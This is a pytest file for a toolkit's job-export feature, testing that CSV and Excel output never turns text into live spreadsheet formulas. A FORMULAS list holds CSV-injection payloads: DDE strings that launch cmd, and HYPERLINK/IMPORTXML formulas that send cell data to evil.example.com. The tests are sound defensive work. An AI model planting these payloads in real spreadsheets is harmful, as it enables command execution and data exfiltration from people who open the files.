"""Jobs as tables: complete, readable by other programs, and never a formula."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import pytest

from tests.helpers.snapshots import NOW, snapshot
from tfi_notebook.contract.records import JobStatus
from tfi_notebook.errors import SettingsError
from tfi_notebook.lifecycle.export import Exports, defused, job_frame, write_csv, write_excel

if TYPE_CHECKING:
    from pathlib import Path

    from tfi_notebook.contract.snapshot import JobSnapshot

pd = pytest.importorskip("pandas", reason="needs the extra data")

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example.com/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example.com/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "fine;=1+1",
    'fine";=1+1',
    "fine\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def jobs(text: str = "fine") -> list[Any]:
    done = snapshot(
        "k1", message=text, job_id=text, status=JobStatus.DONE, credit_used=Decimal("-12.50"),
        created_at=NOW - 65, finished_at=NOW - 5, local=False, service="https://api.example.com",
    )  # fmt: skip
    return [done, snapshot("k2", body={**done.body, "values": [text, "b"], "language": text})]


def frame(text: str = "fine") -> Any:
    return job_frame(jobs(text), now=NOW)


def test_a_frame_has_a_line_for_each_job_and_a_column_for_each_field() -> None:
    table = frame()
    first = table.iloc[0]
    assert list(table["status"]) == ["done", "processing"]
    assert (first["version"], first["iteration_count"], first["crop"]) == (6, 10, True)
    assert (first["credit_used"], first["elapsed_s"]) == (-12.5, 60.0)
    assert first["finished_at"] == dt.datetime.fromtimestamp(NOW - 5, dt.UTC)
    assert pd.isna(table.iloc[1]["finished_at"])
    assert table.iloc[1]["values"] == '["fine", "b"]'
    assert table["credit_used"].dtype == float


def test_no_jobs_are_an_empty_frame() -> None:
    table = job_frame([], now=NOW)
    assert len(table) == 0
    assert "created_at" in table.columns


def test_a_frame_shows_neither_signatures_nor_folders(tmp_path: Path) -> None:
    (row,) = jobs()[:1]
    signed = "https://b.example.com/a.png?X-Amz-Signature=canary"
    row = row.having(
        body={**row.body, "image_url": signed}, path=tmp_path / "a.mp4", message=signed
    )
    table = job_frame([row], now=NOW)
    shown = table.to_csv() + table.to_html()
    assert "canary" not in shown
    assert str(tmp_path) not in shown
    assert table.iloc[0]["image_url"] == "https://b.example.com/a.png"
    assert table.iloc[0]["video"] == "a.mp4"


def cells_of(text: str, separator: str) -> list[str]:
    """What a spreadsheet with this separator makes of a file."""
    return [cell for line in csv.reader(text.splitlines(), delimiter=separator) for cell in line]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_in_a_csv_is_a_formula_in_any_country(tmp_path: Path, text: str) -> None:
    write_csv(frame(text), tmp_path / "jobs.csv")
    raw = (tmp_path / "jobs.csv").read_text()
    for separator in (",", ";", "\t"):
        cells = [cell.lstrip(' "') for cell in cells_of(raw, separator)]
        assert [cell for cell in cells if cell.startswith(STARTS) and not is_number(cell)] == []


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_numbers_in_a_csv_stay_numbers(tmp_path: Path) -> None:
    write_csv(frame("=1+1"), tmp_path / "jobs.csv")
    back = pd.read_csv(tmp_path / "jobs.csv")
    assert back["credit_used"].iloc[0] == -12.5
    assert back["iteration_count"].dtype == int
    assert back["message"].iloc[0] == "'=1+1"


def test_column_names_are_defused_too(tmp_path: Path) -> None:
    write_csv(pd.DataFrame({"=1+1": [1], "b": ["ä"]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8").splitlines() == [
        '"\'=1+1","b"',
        '1,"ä"',
    ]


@pytest.mark.parametrize("text", ["fine", "a - b", "it is 5 + 3", "a@b.example.com", "", "x=1"])
def test_harmless_text_is_not_changed(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, "http://evil.example.com", "mailto:a@b.example.com"])
def test_every_text_in_a_workbook_is_text_and_unchanged(tmp_path: Path, text: str) -> None:
    pytest.importorskip("xlsxwriter", reason="needs the extra data")
    openpyxl = pytest.importorskip("openpyxl", reason="reads the workbook back")
    table = pd.DataFrame({"message": [text], "n": [-5], text: ["x"]})
    write_excel(table, tmp_path / "jobs.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "jobs.xlsx").active
    head, line = list(sheet.iter_rows())
    assert [cell.data_type for cell in [*head, *line]] == ["s", "s", "s", "s", "n", "s"]
    assert [cell.hyperlink for cell in [*head, *line]] == [None] * 6
    assert line[0].value.replace("\r", "\n").replace("_x000D_", "\n") == text.replace("\r", "\n")
    assert line[1].value == -5


def test_jobs_become_a_workbook(tmp_path: Path) -> None:
    pytest.importorskip("xlsxwriter", reason="needs the extra data")
    openpyxl = pytest.importorskip("openpyxl", reason="reads the workbook back")
    write_excel(frame("=1+1"), tmp_path / "jobs.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "jobs.xlsx").active
    head, *lines = list(sheet.iter_rows(values_only=True))
    first = dict(zip(head, lines[0], strict=True))
    assert first["message"] == "=1+1"
    assert first["credit_used"] == -12.5
    assert first["created_at"] == dt.datetime.fromtimestamp(NOW - 65, dt.UTC).replace(tzinfo=None)
    assert len(lines) == 2


class Listed:
    """A job in a list."""

    def __init__(self, row: JobSnapshot) -> None:
        self.snapshot = row


class Jobs(Exports, list[Listed]):
    """A list of jobs, as the toolkit's own."""


def test_a_list_of_jobs_exports_itself(tmp_path: Path) -> None:
    listed = Jobs(Listed(row) for row in jobs("=1+1"))
    assert list(listed.to_frame()["message"]) == ["=1+1", ""]
    listed.to_csv(tmp_path / "jobs.csv")
    assert "'=1+1" in (tmp_path / "jobs.csv").read_text()
    pytest.importorskip("xlsxwriter", reason="needs the extra data")
    listed.to_excel(tmp_path / "jobs.xlsx")
    assert (tmp_path / "jobs.xlsx").read_bytes().startswith(b"PK")


@pytest.mark.parametrize("write", [write_csv, write_excel])
def test_a_file_that_cannot_be_written_is_told(tmp_path: Path, write: Any) -> None:
    if write is write_excel:
        pytest.importorskip("xlsxwriter", reason="needs the extra data")
    with pytest.raises(SettingsError, match="cannot be written"):
        write(frame(), tmp_path / "no" / "such" / "folder.xlsx")
